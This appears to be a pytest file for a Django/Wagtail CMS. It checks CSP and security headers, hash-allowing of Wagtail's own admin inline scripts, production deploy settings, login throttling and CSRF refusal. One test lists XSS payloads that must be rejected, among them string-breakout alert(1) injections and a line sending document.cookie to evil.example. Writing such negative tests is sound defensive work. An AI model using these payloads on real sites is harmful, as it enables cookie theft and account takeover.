"""Security headers, the production deploy check, login throttling and CSRF on the forms."""

import base64
import hashlib
import os
import secrets
import subprocess
import sys
from pathlib import Path

import pytest
from django.test import Client

from cms import security

ROOT = Path(__file__).resolve().parents[2]


def test_public_pages_carry_the_security_headers(client, branches):
    response = client.get("/branches/paris/")
    assert response.status_code == 200
    csp = response["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "object-src 'none'" in csp and "unsafe-inline" not in csp.split(
        "script-src")[1].split(";")[0]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["X-Frame-Options"] == "DENY"


def script_sources(policy):
    return next(d for d in policy.split(";") if d.strip().startswith("script-src")).split()[1:]


def test_the_wagtail_admin_has_a_csp_that_refuses_inline_script(client, people, branches):
    people["secretary"].is_superuser = True
    people["secretary"].save()
    client.force_login(people["secretary"])
    for url in ("/admin/", f"/admin/pages/{branches['paris'].pk}/edit/", "/admin/users/", "/django-admin/"):
        response = client.get(url)
        assert response.status_code == 200, url
        sources = script_sources(response["Content-Security-Policy"])
        assert sources[0] == "'self'" and "'unsafe-inline'" not in sources and "'unsafe-eval'" not in sources, url
        assert all(s.startswith("'sha256-") for s in sources[1:]), url
        assert "object-src 'none'" in response["Content-Security-Policy"]
        assert response["X-Content-Type-Options"] == "nosniff" and response["X-Frame-Options"] == "DENY"
    # The branch editor's own set-up scripts (the officers' inline panel, the go-live date picker)
    # are allowed one by one, by hash.
    editor = client.get(f"/admin/pages/{branches['paris'].pk}/edit/")
    assert len(script_sources(editor["Content-Security-Policy"])) > 2


@pytest.mark.parametrize("script", [
    '\n        (function() {\n            var panel = new InlinePanel(JSON.parse("{\\u0022type\\u0022: '
    '\\u0022InlinePanel\\u0022, \\u0022formsetPrefix\\u0022: \\u0022id_officers\\u0022}"));\n        })();\n    ',
    'initDateTimeChooser("id_go_live_at", {"dayOfWeekStart": 1, "format": "Y-m-d H:i", "parentID": "#dialog"});',
    'new SnippetChooser("id_region", {"modalUrl": "/admin/snippets/choose/cms/region/"});',
    'new PageChooser("id_page", {"modalUrl": "/admin/choose-page/", "modelNames": ["wagtailcore.page"], '
    '"canChooseRoot": false, "userPerms": null});',
])
def test_wagtails_own_inline_scripts_are_allowed_by_hash(script):
    assert security.is_wagtail_inline_script(script)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert security.admin_inline_script_hashes(f"<p>x</p><script>{script}</script>") == [f"'sha256-{digest}'"]


@pytest.mark.parametrize("script", [
    "alert(1)",
    "window.__pwned = 1;",
    'initDateChooser("x", {"a": alert(1)});',
    'initDateChooser("x" + alert(1) + "", {});',
    'initDateChooser("x\\", {}); alert(1); //", {});',
    'new PageChooser("id_page", {"modalUrl": `${alert(1)}`});',
    'new PageChooser("id_page", {}); fetch("/admin/users/")',
    '(function() { var panel = new InlinePanel(JSON.parse("\\"+alert(1)+\\"")); })();',
    '(function() { var panel = new InlinePanel(JSON.parse("x"), alert(1)); })();',
    'new Image().src="//evil.example/"+document.cookie; new PageChooser("a", {});',
])
def test_any_other_inline_script_in_an_admin_page_gets_no_hash(script):
    assert not security.is_wagtail_inline_script(script)
    assert security.admin_inline_script_hashes(f"<script>{script}</script>") == []


def test_production_settings_pass_the_deploy_check_with_the_documented_variables(tmp_path):
    env = {
        **os.environ,
        "DJANGO_SETTINGS_MODULE": "cms.settings.production",
        "SECRET_KEY": secrets.token_urlsafe(50),
        "ALLOWED_HOSTS": "li.example.org",
        "SITE_URL": "https://li.example.org",
        "DATABASE_URL": f"sqlite:///{tmp_path / 'deploy.sqlite3'}",
        "CACHE_DIR": str(tmp_path / "cache"),
    }
    env.pop("CACHE_REDIS_URL", None)
    env.pop("DJANGO_ALLOW_ASYNC_UNSAFE", None)  # set by the browser tests' process, never in deployment
    result = subprocess.run([sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
                            cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "System check identified no issues" in result.stdout


def test_production_settings_refuse_to_start_without_a_secret_key(tmp_path):
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "cms.settings.production", "SECRET_KEY": ""}
    result = subprocess.run([sys.executable, "manage.py", "check"], cwd=ROOT, env=env,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode != 0 and "SECRET_KEY must be set" in result.stderr


@pytest.mark.parametrize("login_url", ["/login/", "/admin/login/"])
def test_password_guessing_is_locked_out_after_the_limit(login_url, people, settings):
    settings.AXES_ENABLED = True
    settings.AXES_FAILURE_LIMIT = 3
    client = Client(REMOTE_ADDR="203.0.113.9")
    email = people["member"].email
    for _ in range(2):
        response = client.post(login_url, {"username": email, "password": "guess"})
        assert response.status_code == 200  # the form again, with an error
    assert client.post(login_url, {"username": email, "password": "guess"}).status_code == 429
    locked = client.post(login_url, {"username": email, "password": "demo"})
    assert locked.status_code == 429
    assert "_auth_user_id" not in client.session
    # Another member from elsewhere is not locked out by these guesses.
    other = Client(REMOTE_ADDR="198.51.100.4")
    assert other.post(login_url, {"username": people["seconder"].email, "password": "demo"}).status_code == 302


def test_a_form_posted_without_its_csrf_token_is_refused(people):
    client = Client(enforce_csrf_checks=True)
    assert client.post("/login/", {"username": people["member"].email, "password": "demo"}).status_code == 403
    client.force_login(people["proposer"])
    refused = client.post("/my-motions/new/motion/", {"title": "Forged", "text": "Posted from elsewhere"})
    assert refused.status_code == 403
    assert client.post("/logout/").status_code == 403
